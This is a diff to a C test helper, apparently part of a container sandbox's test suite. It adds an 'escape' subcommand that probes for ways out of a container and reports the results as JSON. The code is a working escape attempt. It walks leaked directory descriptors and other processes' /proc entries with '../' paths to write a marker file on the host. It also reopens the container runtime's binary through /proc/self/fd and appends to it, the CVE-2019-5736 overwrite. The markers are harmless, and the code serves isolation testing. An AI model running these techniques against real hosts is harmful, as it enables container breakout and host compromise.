@@ -31,6 +31,22 @@
  *       number; ARGs are integers, 0 for NULL) and print {"name","ret","errno","error"}
  *       (errno 0 on success); exits 0 whatever the syscall did
  *   probe syscalls "NAME ARG..." ...  several, one JSON array of those objects
+ *   probe escape [--runtime MAJ:MIN:INO] [--marker HOSTPATH] [--wait FILE] [--fifo FIFO]
+ *                [--go FILE]
+ *       tries the known ways out of a container and reports, as one JSON line:
+ *       own_fds [{fd,target,type,cwd}] (every fd >= 3 and, for a directory,
+ *       where fchdir to it leads), cwd, self {exe,open_w,runtime}, procs
+ *       [{pid,exe,runtime,open_w,fds}] (every other visible process: its exe,
+ *       whether that is the runtime's binary MAJ:MIN:INO, then kept open O_PATH,
+ *       and whether it opens for writing), dirs [paths] (directories reachable
+ *       through our fds, our cwd and the cwd/root/fds of other processes),
+ *       marker_via [paths] (those through which "../"x64 + HOSTPATH could be
+ *       created: a host file written from inside), held (runtime binaries kept
+ *       open).  --wait: first wait for FILE to exist; --fifo: first open FIFO
+ *       for writing (blocks until someone reads it), close it after the scan.
+ *       --go: then wait for FILE and reopen every kept runtime binary through
+ *       /proc/self/fd for writing and append to it (CVE-2019-5736), reported
+ *       as a second line {"overwrite": [{pid,result}]}.
  *
  * Failures of subcommands print "probe: <what>: <error>" to stderr and exit 1.
  * Strings are emitted as valid JSON even when they are not UTF-8: a stray byte
@@ -1061,12 +1077,301 @@ static int cmd_syscalls(int argc, char **argv)
 	return 0;
 }
 
+/* ---- escape attempts ----------------------------------------------------- */
+
+#define ESCAPE_MAX_HELD 16
+
+static struct {
+	int fd;
+	int pid;
+} held[ESCAPE_MAX_HELD];
+static int n_held;
+
+/* Waits (up to 60 s) for path to exist; false on timeout. */
+static bool wait_file(const char *path)
+{
+	for (int i = 0; i < 6000; i++) {
+		if (access(path, F_OK) == 0)
+			return true;
+		sleep_seconds("0.01");
+	}
+	return false;
+}
+
+/* Tries to create marker (a host path) from directory dirpath by walking up
+ * with "..": that only reaches the host's root from a directory outside ours. */
+static void try_marker(const char *dirpath, const char *marker, bool *any)
+{
+	char rel[PATH_MAX];
+	size_t len = 0;
+	int dfd, fd;
+
+	if (!marker)
+		return;
+	for (int i = 0; i < 64 && len + 3 < sizeof(rel); i++, len += 3)
+		memcpy(rel + len, "../", 3);
+	while (*marker == '/')
+		marker++;
+	if (len + strlen(marker) + 1 > sizeof(rel))
+		return;
+	strcpy(rel + len, marker);
+	dfd = open(dirpath, O_PATH | O_DIRECTORY | O_CLOEXEC);
+	if (dfd < 0)
+		return;
+	fd = openat(dfd, rel, O_WRONLY | O_CREAT | O_NOFOLLOW | O_CLOEXEC, 0644);
+	close(dfd);
+	if (fd < 0)
+		return;
+	dprintf(fd, "escaped via %s\n", dirpath);
+	close(fd);
+	val_str(dirpath);
+	*any = true;
+}
+
+static bool parse_devino(const char *s, unsigned long long *dev, unsigned long long *ino)
+{
+	unsigned maj, min;
+
+	if (!s || sscanf(s, "%u:%u:%llu", &maj, &min, ino) != 3)
+		return false;
+	*dev = makedev(maj, min);
+	return true;
+}
+
+static bool is_dir(const char *path)
+{
+	struct stat st;
+
+	return stat(path, &st) == 0 && S_ISDIR(st.st_mode);
+}
+
+/* Directories found: reported, and tried as a way out. */
+static char *found_dirs[4096];
+static int n_found_dirs;
+
+static void add_dir(const char *path)
+{
+	if (n_found_dirs < (int)(sizeof(found_dirs) / sizeof(found_dirs[0])) && is_dir(path))
+		found_dirs[n_found_dirs++] = strdup(path);
+}
+
+static int cmd_escape(int argc, char **argv)
+{
+	const char *runtime = NULL, *marker = NULL, *wait = NULL, *fifo = NULL, *go = NULL;
+	unsigned long long rdev = 0, rino = 0;
+	bool have_runtime;
+	int fifo_fd = -1;
+	char cwd[PATH_MAX];
+	DIR *d;
+
+	for (int i = 2; i < argc; i++) {
+		const char **slot = strcmp(argv[i], "--runtime") == 0 ? &runtime
+				  : strcmp(argv[i], "--marker") == 0  ? &marker
+				  : strcmp(argv[i], "--wait") == 0    ? &wait
+				  : strcmp(argv[i], "--fifo") == 0    ? &fifo
+				  : strcmp(argv[i], "--go") == 0      ? &go
+								      : NULL;
+		if (!slot || i + 1 >= argc)
+			die("escape: bad argument %s", argv[i]);
+		*slot = argv[++i];
+	}
+	have_runtime = parse_devino(runtime, &rdev, &rino);
+	if (runtime && !have_runtime)
+		die("escape: --runtime wants MAJOR:MINOR:INODE, not %s", runtime);
+	if (wait && !wait_file(wait))
+		die("escape: %s never appeared", wait);
+	if (fifo) {
+		fifo_fd = open(fifo, O_WRONLY | O_CLOEXEC);
+		if (fifo_fd < 0)
+			die("escape: open %s: %s", fifo, strerror(errno));
+	}
+
+	obj_begin();
+	/* Our own fds first, before this scan opens any. */
+	key("own_fds");
+	arr_begin();
+	for (int fd = 3; fd < 1024; fd++) {
+		char link[64], here[PATH_MAX];
+		struct stat st;
+		char *t;
+
+		if (fd == fifo_fd || fstat(fd, &st) != 0)
+			continue;
+		snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
+		t = readlink_alloc(AT_FDCWD, link);
+		obj_begin();
+		kv_int("fd", fd);
+		kv_str("target", t);
+		kv_str("type", type_name(st.st_mode));
+		key("cwd");
+		if (S_ISDIR(st.st_mode) && getcwd(here, sizeof(here)) && fchdir(fd) == 0) {
+			char there[PATH_MAX];
+
+			val_str(getcwd(there, sizeof(there)) ? there : strerror(errno));
+			if (chdir(here) != 0)
+				die("escape: chdir back to %s: %s", here, strerror(errno));
+		} else {
+			val_null();
+		}
+		obj_end();
+		if (S_ISDIR(st.st_mode))
+			add_dir(link);
+		free(t);
+	}
+	arr_end();
+	kv_str("cwd", getcwd(cwd, sizeof(cwd)) ? cwd : strerror(errno));
+	add_dir(".");
+	{
+		char *exe = readlink_alloc(AT_FDCWD, "/proc/self/exe");
+		struct stat st;
+		int w;
+
+		key("self");
+		obj_begin();
+		kv_str("exe", exe);
+		free(exe);
+		w = open("/proc/self/exe", O_WRONLY | O_CLOEXEC);
+		kv_str("open_w", w >= 0 ? "ok" : strerror(errno));
+		if (w >= 0)
+			close(w);
+		if (have_runtime && stat("/proc/self/exe", &st) == 0 && st.st_dev == rdev &&
+		    st.st_ino == rino) {
+			kv_str("runtime", "yes");
+			held[n_held].fd = open("/proc/self/exe", O_PATH | O_CLOEXEC);
+			held[n_held].pid = getpid();
+			if (held[n_held].fd >= 0)
+				n_held++;
+		}
+		obj_end();
+	}
+
+	key("procs");
+	arr_begin();
+	d = opendir("/proc");
+	for (struct dirent *de; d && (de = readdir(d));) {
+		char path[PATH_MAX], *exe;
+		int pid = atoi(de->d_name);
+		struct stat st;
+		DIR *fdd;
+
+		if (pid <= 0 || pid == getpid())
+			continue;
+		obj_begin();
+		kv_int("pid", pid);
+		snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+		exe = readlink_alloc(AT_FDCWD, path);
+		kv_str("exe", exe);
+		free(exe);
+		if (have_runtime && stat(path, &st) == 0 && st.st_dev == rdev && st.st_ino == rino) {
+			int w = open(path, O_WRONLY | O_CLOEXEC);
+
+			kv_str("runtime", "yes");
+			kv_str("open_w", w >= 0 ? "ok" : strerror(errno));
+			if (w >= 0)
+				close(w);
+			if (n_held < ESCAPE_MAX_HELD) {
+				held[n_held].fd = open(path, O_PATH | O_CLOEXEC);
+				held[n_held].pid = pid;
+				if (held[n_held].fd >= 0)
+					n_held++;
+			}
+		}
+		snprintf(path, sizeof(path), "/proc/%d/cwd", pid);
+		add_dir(path);
+		snprintf(path, sizeof(path), "/proc/%d/root", pid);
+		add_dir(path);
+		snprintf(path, sizeof(path), "/proc/%d/fd", pid);
+		key("fds");
+		fdd = opendir(path);
+		if (!fdd) {
+			val_str(strerror(errno));
+		} else {
+			arr_begin();
+			for (struct dirent *fe; (fe = readdir(fdd));) {
+				char fpath[PATH_MAX], *t;
+
+				if (fe->d_name[0] == '.')
+					continue;
+				snprintf(fpath, sizeof(fpath), "/proc/%d/fd/%s", pid, fe->d_name);
+				t = readlink_alloc(AT_FDCWD, fpath);
+				obj_begin();
+				kv_int("fd", atoi(fe->d_name));
+				kv_str("target", t);
+				obj_end();
+				free(t);
+				add_dir(fpath);
+			}
+			arr_end();
+			closedir(fdd);
+		}
+		obj_end();
+	}
+	if (d)
+		closedir(d);
+	arr_end();
+
+	key("dirs");
+	arr_begin();
+	for (int i = 0; i < n_found_dirs; i++)
+		val_str(found_dirs[i]);
+	arr_end();
+	key("marker_via");
+	arr_begin();
+	{
+		bool any = false;
+
+		for (int i = 0; i < n_found_dirs; i++)
+			try_marker(found_dirs[i], marker, &any);
+	}
+	arr_end();
+	kv_int("held", n_held);
+	obj_end();
+	json_done();
+	if (fifo_fd >= 0)
+		close(fifo_fd);
+	if (!go)
+		return 0;
+
+	/* The runtime has exited by now (the caller says so with the go file):
+	 * nothing keeps its binary busy any more. */
+	if (!wait_file(go))
+		die("escape: %s never appeared", go);
+	memset(&js, 0, sizeof(js));
+	obj_begin();
+	key("overwrite");
+	arr_begin();
+	for (int i = 0; i < n_held; i++) {
+		char path[64];
+		int w;
+
+		snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i].fd);
+		w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
+		obj_begin();
+		kv_int("pid", held[i].pid);
+		if (w < 0) {
+			kv_str("result", strerror(errno));
+		} else {
+			static const char msg[] = "\nESCAPED: container wrote here\n";
+			ssize_t n = write(w, msg, sizeof(msg) - 1);
+
+			kv_str("result", n == (ssize_t)sizeof(msg) - 1 ? "written" : strerror(errno));
+			close(w);
+		}
+		obj_end();
+	}
+	arr_end();
+	obj_end();
+	json_done();
+	return 0;
+}
+
 static __attribute__((noreturn)) void usage(void)
 {
 	fputs("usage: probe [exit N | sleep S | trap S | kill-self SIG | cat PATH |\n"
 	      "              write PATH TEXT | open PATH r|w|rw | ls PATH | stat PATH |\n"
 	      "              lstat PATH | alloc MB | sysctl NAME | fork-sleep N [S] |\n"
-	      "              syscall NAME [ARG...] | syscalls \"NAME ARG...\"...]\n",
+	      "              syscall NAME [ARG...] | syscalls \"NAME ARG...\"... |\n"
+	      "              escape [--runtime D:I] [--marker P] [--wait F] [--fifo F] [--go F]]\n",
 	      stderr);
 	exit(2);
 }
@@ -1110,5 +1415,7 @@ int main(int argc, char **argv)
 		return cmd_syscalls(nargs, argv + 2);
 	if (strcmp(cmd, "fork-sleep") == 0 && (nargs == 1 || nargs == 2))
 		return cmd_fork_sleep(argv[2], nargs == 2 ? argv[3] : "30");
+	if (strcmp(cmd, "escape") == 0)
+		return cmd_escape(argc, argv);
 	usage();
 }
